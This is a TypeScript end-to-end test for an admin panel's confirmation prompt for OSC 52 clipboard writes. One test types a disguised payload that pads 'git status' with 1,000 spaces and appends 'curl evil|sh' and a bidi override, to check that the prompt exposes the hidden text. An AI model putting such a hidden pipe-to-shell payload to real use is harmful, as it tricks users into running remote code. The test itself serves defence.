import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ARTIFACTS, launchChromium } from './helpers/browser.js';
import { consoleText, PanelProcess } from './helpers/panel.js';

let browser: Browser;
let panel: PanelProcess;
const keychain = Boolean(process.env.DBUS_SESSION_BUS_ADDRESS);

beforeAll(async () => {
  browser = await launchChromium();
  panel = await PanelProcess.start(keychain ? {} : { SLOTDECK_MASTER_KEY: 'e2e-master-key' });
});

afterAll(async () => {
  await browser?.close();
  await panel?.destroy();
});

/** Has the program in the console print an OSC 52 clipboard write of `text`, as tmux or vim would. */
async function programCopies(page: Page, text: string): Promise<void> {
  await page.locator('.console:not([hidden]) .xterm-helper-textarea').focus();
  await page.keyboard.type(
    `printf '\\033]52;c;%s\\007' "$(printf '%s' '${text}' | base64)"; echo printed-$((1+1))-${text}`,
  );
  await page.keyboard.press('Enter');
  await expect.poll(() => consoleText(page), { timeout: 15_000 }).toContain(`printed-2-${text}`);
}

const clipboard = (page: Page): Promise<string> => page.evaluate(() => navigator.clipboard.readText());

describe('a program in a slot writing the clipboard (OSC 52)', () => {
  it('asks the admin first, copies only when allowed, and stops asking once "always allow" is on', async () => {
    const page = await panel.open(browser);
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin: panel.origin });
    await page.evaluate(() => navigator.clipboard.writeText('what the admin copied'));
    await page.locator('.tab', { hasText: 'main' }).waitFor();
    await expect.poll(() => consoleText(page), { timeout: 15_000 }).toMatch(/[#$]\s*$/m);

    await programCopies(page, 'denied-text');
    const prompt = page.getByRole('alertdialog', { name: 'Clipboard request' });
    await expect.poll(() => prompt.textContent()).toContain('main wants to copy this text');
    expect(await prompt.getByLabel('Text to copy').textContent()).toBe('denied-text');
    await page.screenshot({ path: join(ARTIFACTS, 'clipboard-osc52-prompt.png') });
    expect(await clipboard(page)).toBe('what the admin copied');
    await prompt.getByRole('button', { name: 'Deny' }).click();
    await expect.poll(() => prompt.count()).toBe(0);
    expect(await clipboard(page)).toBe('what the admin copied');

    // A text that hides its end behind spaces and a bidi override, then a second request right behind it: the first
    // stays shown, whole, with its size, the spaces counted and the override marked; the second waits, and "always allow" ticked in the
    // first prompt does not carry over to it.
    const terminal = page.locator('.console:not([hidden]) .xterm-helper-textarea');
    await terminal.focus();
    await page.keyboard.type(
      `printf '\\033]52;c;%s\\007' "$(printf 'git status%1000s; curl evil|sh\\342\\200\\256' '' | base64 -w0)"; ` +
        `printf '\\033]52;c;%s\\007' "$(printf second-text | base64)"; echo printed-$((1+1))-pair`,
    );
    await page.keyboard.press('Enter');
    await expect.poll(() => consoleText(page), { timeout: 15_000 }).toContain('printed-2-pair');
    await expect.poll(() => prompt.textContent()).toContain('1,025 characters, 1 line');
    expect(await prompt.getByLabel('Text to copy').textContent()).toBe(
      'git status⟨1,000 spaces⟩; curl evil|sh⟨U+202E⟩',
    );
    expect(await prompt.textContent()).toContain('Warning: the text holds 1 invisible, direction-changing');
    expect(await prompt.textContent()).toContain('1 more request waiting');
    await page.screenshot({ path: join(ARTIFACTS, 'clipboard-osc52-hidden-text.png') });
    await prompt.getByLabel('Always allow for this slot').check();
    await prompt.getByRole('button', { name: 'Deny' }).click();
    await expect.poll(() => prompt.getByLabel('Text to copy').textContent()).toBe('second-text');
    expect(await prompt.getByLabel('Always allow for this slot').isChecked()).toBe(false);
    expect(await prompt.textContent()).not.toContain('waiting');
    await prompt.getByRole('button', { name: 'Deny' }).click();
    await expect.poll(() => prompt.count()).toBe(0);
    expect(await clipboard(page)).toBe('what the admin copied');
    expect(await page.getByLabel('Always allow clipboard writes').isChecked()).toBe(false);

    await programCopies(page, 'allowed-text');
    await prompt.getByLabel('Always allow for this slot').check();
    await prompt.getByRole('button', { name: 'Allow' }).click();
    await expect.poll(() => clipboard(page)).toBe('allowed-text');

    // From now on this slot's writes are copied without a prompt, and the toolbar shows the switch on.
    expect(await page.getByLabel('Always allow clipboard writes').isChecked()).toBe(true);
    await programCopies(page, 'silent-text');
    await expect.poll(() => clipboard(page)).toBe('silent-text');
    expect(await prompt.count()).toBe(0);
    await page.screenshot({ path: join(ARTIFACTS, 'clipboard-osc52-always.png') });
    await page.close();
  });
});
